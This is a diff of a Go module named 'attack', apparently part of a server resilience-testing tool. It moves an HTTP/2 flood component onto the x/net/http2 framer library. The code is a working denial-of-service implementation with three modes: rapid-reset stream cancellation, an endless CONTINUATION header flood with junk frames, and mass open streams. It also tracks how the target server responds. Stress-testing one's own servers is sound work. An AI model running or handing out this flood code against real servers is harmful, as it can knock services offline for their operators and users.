@@ -2,16 +2,17 @@ package attack
 
 import (
 	"bufio"
+	"bytes"
 	"context"
 	"crypto/tls"
-	"encoding/binary"
 	"errors"
 	"fmt"
-	"io"
 	"net"
 	"sync"
 	"sync/atomic"
 	"time"
+
+	"golang.org/x/net/http2"
 
 	"github.com/rempart/rempart/internal/siege/sim"
 )
@@ -93,7 +94,8 @@ type h2Attack struct {
 	frameSize int
 	every     time.Duration
 	settle    time.Duration
-	block     []byte // the request's header block
+	hpack     *blockEncoder // encodes block and, in continuation, the junk
+	block     []byte        // the request's header block
 }
 
 func newH2Attack(p sim.Params, t *target) (*h2Attack, error) {
@@ -103,6 +105,7 @@ func newH2Attack(p sim.Params, t *target) (*h2Attack, error) {
 		frameSize: min(max(p.Int("frame_size", 1024), 32), maxFrameLen),
 		every:     p.Duration("interval", 0),
 		settle:    p.Duration("settle", time.Second),
+		hpack:     newBlockEncoder(),
 	}
 	def := 1000
 	switch a.mode {
@@ -113,7 +116,7 @@ func newH2Attack(p sim.Params, t *target) (*h2Attack, error) {
 		return nil, fmt.Errorf("h2-flood: mode %q: want rapid-reset, continuation or streams", a.mode)
 	}
 	a.streams = min(max(p.Int("streams", def), 0), maxH2Streams)
-	a.block = appendRequestBlock(nil, t.tls != nil, t.host,
+	a.block = a.hpack.request(t.tls != nil, t.host,
 		t.path(p.String("path", defaultHotPath)), p.String("user_agent", defaultFloodUA))
 	return a, nil
 }
@@ -135,15 +138,18 @@ func (a *h2Attack) run(ctx context.Context, env *sim.Env, h *h2conn) {
 
 // rapidReset opens and cancels streams, one HEADERS+RST_STREAM per write.
 func (a *h2Attack) rapidReset(ctx context.Context, env *sim.Env, h *h2conn) {
-	buf := make([]byte, 0, 9+len(a.block)+13)
 	for i := range a.streams {
 		if h.stopped(ctx) || !take(env) {
 			return
 		}
 		id := uint32(2*i + 1)
-		buf = append(appendFrameHeader(buf[:0], len(a.block), frameHeaders, flagEndStream|flagEndHeaders, id), a.block...)
-		buf = appendRST(buf, id, codeCancel)
-		if h.write(buf) != nil {
+		err := h.send(2, func(fr *http2.Framer) error {
+			if err := fr.WriteHeaders(a.headers(id, true)); err != nil {
+				return err
+			}
+			return fr.WriteRSTStream(id, http2.ErrCodeCancel)
+		})
+		if err != nil {
 			return
 		}
 		h.sent.headers.Add(1)
@@ -156,8 +162,8 @@ func (a *h2Attack) rapidReset(ctx context.Context, env *sim.Env, h *h2conn) {
 
 // continuation starts one header block and never ends it.
 func (a *h2Attack) continuation(ctx context.Context, h *h2conn) {
-	buf := appendFrame(nil, frameHeaders, flagEndStream, 1, a.block) // no END_HEADERS
-	if h.write(buf) != nil {
+	err := h.send(1, func(fr *http2.Framer) error { return fr.WriteHeaders(a.headers(1, false)) })
+	if err != nil {
 		return
 	}
 	h.sent.headers.Add(1)
@@ -165,10 +171,8 @@ func (a *h2Attack) continuation(ctx context.Context, h *h2conn) {
 		if h.stopped(ctx) {
 			return
 		}
-		buf = appendJunkBlock(appendFrameHeader(buf[:0], 0, frameContinuation, 0, 1), a.frameSize)
-		n := len(buf) - 9
-		buf[0], buf[1], buf[2] = byte(n>>16), byte(n>>8), byte(n)
-		if h.write(buf) != nil {
+		junk := a.hpack.junk(a.frameSize)
+		if h.send(1, func(fr *http2.Framer) error { return fr.WriteContinuation(1, false, junk) }) != nil {
 			return
 		}
 		h.sent.continuation.Add(1)
@@ -180,13 +184,12 @@ func (a *h2Attack) continuation(ctx context.Context, h *h2conn) {
 
 // openStreams opens concurrent GET streams and leaves them open.
 func (a *h2Attack) openStreams(ctx context.Context, env *sim.Env, h *h2conn) {
-	buf := make([]byte, 0, 9+len(a.block))
 	for i := range a.streams {
 		if h.stopped(ctx) || !take(env) {
 			return
 		}
-		buf = appendFrame(buf[:0], frameHeaders, flagEndStream|flagEndHeaders, uint32(2*i+1), a.block)
-		if h.write(buf) != nil {
+		hdr := a.headers(uint32(2*i+1), true)
+		if h.send(1, func(fr *http2.Framer) error { return fr.WriteHeaders(hdr) }) != nil {
 			return
 		}
 		h.sent.headers.Add(1)
@@ -196,14 +199,22 @@ func (a *h2Attack) openStreams(ctx context.Context, env *sim.Env, h *h2conn) {
 	}
 }
 
+// headers is the HEADERS frame of a GET on stream id, which ends the stream;
+// a header block without end leaves END_HEADERS off.
+func (a *h2Attack) headers(id uint32, endHeaders bool) http2.HeadersFrameParam {
+	return http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block, EndStream: true, EndHeaders: endHeaders}
+}
+
 // h2conn is one attack connection: the attack writes, a reader goroutine
 // answers SETTINGS and PING and watches how the server reacts.
 type h2conn struct {
 	conn, raw net.Conn
 	start     time.Time
+	fr        *http2.Framer // writes to wbuf, reads conn in readLoop
 
-	wmu  sync.Mutex // guards writes to conn
-	werr error      // first write error; guarded by wmu
+	wmu  sync.Mutex   // guards writes: wbuf, fr's write side and conn
+	wbuf bytes.Buffer // frames of one send, written to conn at once
+	werr error        // first write error; guarded by wmu
 
 	sent struct{ headers, rst, continuation, frames atomic.Int64 }
 
@@ -228,9 +239,15 @@ func dialH2(ctx context.Context, env *sim.Env, c sim.Client, t *target) (*h2conn
 		return nil, errors.New("h2-flood: server did not negotiate h2 over TLS")
 	}
 	h := &h2conn{conn: conn, raw: raw, start: time.Now(), done: make(chan struct{})}
-	// SETTINGS_ENABLE_PUSH = 0: nothing pushed at us.
-	hello := appendFrame([]byte(h2Preface), frameSettings, 0, 0, []byte{0, 2, 0, 0, 0, 0})
-	if err := h.write(hello); err != nil {
+	h.fr = http2.NewFramer(&h.wbuf, bufio.NewReaderSize(conn, 32<<10))
+	h.fr.SetMaxReadFrameSize(maxFrameLen)
+	h.fr.AllowIllegalReads = true // we watch the server, we do not police it
+	err = h.send(1, func(fr *http2.Framer) error {
+		h.wbuf.WriteString(http2.ClientPreface) // not a frame
+		// SETTINGS_ENABLE_PUSH = 0: nothing pushed at us.
+		return fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0})
+	})
+	if err != nil {
 		raw.Close()
 		return nil, fmt.Errorf("h2-flood: write preface: %w", err)
 	}
@@ -238,36 +255,27 @@ func dialH2(ctx context.Context, env *sim.Env, c sim.Client, t *target) (*h2conn
 	return h, nil
 }
 
-// write sends b whole, counting its frames.
-func (h *h2conn) write(b []byte) error {
+// send writes the n frames that put gives the framer in one write to conn.
+func (h *h2conn) send(n int, put func(fr *http2.Framer) error) error {
 	h.wmu.Lock()
 	defer h.wmu.Unlock()
 	if h.werr != nil {
 		return h.werr
 	}
+	h.wbuf.Reset()
+	if err := put(h.fr); err != nil {
+		return err
+	}
 	if err := h.conn.SetWriteDeadline(time.Now().Add(defaultTimeout)); err != nil {
 		h.werr = err
 		return err
 	}
-	if _, err := h.conn.Write(b); err != nil {
+	if _, err := h.conn.Write(h.wbuf.Bytes()); err != nil {
 		h.werr = err
 		return err
 	}
-	h.sent.frames.Add(int64(countFrames(b)))
+	h.sent.frames.Add(int64(n))
 	return nil
-}
-
-// countFrames counts the frames in b (the preface, if any, is skipped).
-func countFrames(b []byte) int {
-	if len(b) >= len(h2Preface) && string(b[:len(h2Preface)]) == h2Preface {
-		b = b[len(h2Preface):]
-	}
-	n := 0
-	for len(b) >= 9 {
-		b = b[min(9+parseFrameHeader(b).length, len(b)):]
-		n++
-	}
-	return n
 }
 
 // stopped reports whether the attack should stop: ctx done or server gone.
@@ -308,7 +316,7 @@ func (h *h2conn) close(ctx context.Context, a *h2Attack) error {
 	switch {
 	case h.goAway.Load():
 		return fmt.Errorf("h2 %s: %w %s (last stream %d) after %s, %s", a.mode, ErrGoAway,
-			codeName(h.goAwayCode.Load()), h.goAwayLast.Load(), held, sent)
+			codeName(http2.ErrCode(h.goAwayCode.Load())), h.goAwayLast.Load(), held, sent)
 	case ctx.Err() != nil:
 		return nil
 	case h.readErr != nil && !errors.Is(h.readErr, net.ErrClosed):
@@ -320,50 +328,54 @@ func (h *h2conn) close(ctx context.Context, a *h2Attack) error {
 // readLoop reads the server's frames until the connection ends.
 func (h *h2conn) readLoop() {
 	defer close(h.done)
-	br := bufio.NewReaderSize(h.conn, 32<<10)
-	var hdr [9]byte
-	payload := make([]byte, maxFrameLen)
 	for range maxH2Read {
-		if _, err := io.ReadFull(br, hdr[:]); err != nil {
+		f, err := h.readFrame()
+		var se http2.StreamError
+		switch {
+		case errors.As(err, &se):
+			continue // one stream's frame did not parse; the connection goes on
+		case err != nil:
 			h.readErr = err
 			return
 		}
-		f := parseFrameHeader(hdr[:])
-		if f.length > maxFrameLen {
-			h.readErr = fmt.Errorf("frame of %d bytes over the %d we allow", f.length, maxFrameLen)
-			return
-		}
-		if _, err := io.ReadFull(br, payload[:f.length]); err != nil {
-			h.readErr = err
-			return
-		}
-		h.onFrame(f, payload[:f.length])
+		h.onFrame(f)
 	}
 	h.readErr = errors.New("frame bound reached")
 }
 
+// readFrame reads the server's next frame, naming the length of one that
+// is too long.
+func (h *h2conn) readFrame() (http2.Frame, error) {
+	fh, err := h.fr.ReadFrameHeader()
+	if errors.Is(err, http2.ErrFrameTooLarge) {
+		return nil, fmt.Errorf("frame of %d bytes over the %d we allow", fh.Length, maxFrameLen)
+	}
+	if err != nil {
+		return nil, err
+	}
+	return h.fr.ReadFrameForHeader(fh)
+}
+
 // onFrame reacts to one server frame.
-func (h *h2conn) onFrame(f frameHeader, p []byte) {
-	switch f.typ {
-	case frameSettings:
-		if f.flags&flagAck == 0 {
-			_ = h.write(appendFrame(nil, frameSettings, flagAck, 0, nil))
+func (h *h2conn) onFrame(f http2.Frame) {
+	switch f := f.(type) {
+	case *http2.SettingsFrame:
+		if !f.IsAck() {
+			_ = h.send(1, func(fr *http2.Framer) error { return fr.WriteSettingsAck() })
 		}
-	case framePing:
-		if f.flags&flagAck == 0 {
-			_ = h.write(appendFrame(nil, framePing, flagAck, 0, p))
+	case *http2.PingFrame:
+		if !f.IsAck() {
+			_ = h.send(1, func(fr *http2.Framer) error { return fr.WritePing(true, f.Data) })
 		}
-	case frameGoAway:
-		if len(p) >= 8 {
-			h.goAwayLast.Store(binary.BigEndian.Uint32(p) & 0x7fffffff)
-			h.goAwayCode.Store(binary.BigEndian.Uint32(p[4:]))
-		}
+	case *http2.GoAwayFrame:
+		h.goAwayLast.Store(f.LastStreamID)
+		h.goAwayCode.Store(uint32(f.ErrCode))
 		h.goAway.Store(true)
-	case frameRSTStream:
+	case *http2.RSTStreamFrame:
 		h.rstRecv.Add(1)
-	case frameHeaders:
+	case *http2.HeadersFrame:
 		h.hdrRecv.Add(1)
-	case frameData:
-		h.dataRecv.Add(int64(f.length))
+	case *http2.DataFrame:
+		h.dataRecv.Add(int64(f.Length)) // padding included, as on the wire
 	}
 }
